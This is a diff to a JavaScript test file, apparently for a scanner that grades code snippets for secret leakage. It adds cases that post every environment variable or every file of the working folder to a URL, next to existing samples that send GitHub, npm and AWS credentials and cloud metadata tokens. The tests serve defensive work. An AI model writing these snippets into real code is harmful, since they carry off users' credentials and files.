@@ -14,6 +14,8 @@ test.each([
   ['variables one by one', 'requests.post(u, json={"a": os.environ["GITHUB_TOKEN"], "b": os.environ["NPM_TOKEN"]})'],
   ['the key that AWS clients sign with', 'requests.post(u, json=[os.environ["AWS_SECRET_ACCESS_KEY"]])'],
   ['what a client of AWS was set up with', 'import boto3\nk = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post(u, json={"s": k.secret_key})'],
+  ['each variable by its name', 'requests.post(u, json={n: os.environ[n] for n in os.environ})'],
+  ['each file of the working folder', 'for r, d, f in os.walk(os.getcwd()):\n    for n in f:\n        requests.post(u, data=open(os.path.join(r, n)).read())'],
   ['the role of a machine', 'r = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/")\nrequests.post(u, data=r.text)'],
 ])('%s is sent', async (_, text) => {
   expect(await found(text)).toEqual(['critical, strong']);
@@ -34,6 +36,10 @@ test.each([
 
 test('a client of a cloud that is called for it may use the role of its machine', async () => {
   expect(await found('def ask(url):\n    t = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token").json()\n    requests.get(url, headers={"Authorization": t["access_token"]})')).toEqual(['low']);
+});
+
+test('a program that is called for it may upload the working folder', async () => {
+  expect(await found('def deploy():\n    for r, d, f in os.walk("."):\n        for n in f:\n            requests.post(u, data=open(os.path.join(r, n)).read())')).toEqual(['low']);
 });
 
 test.each([
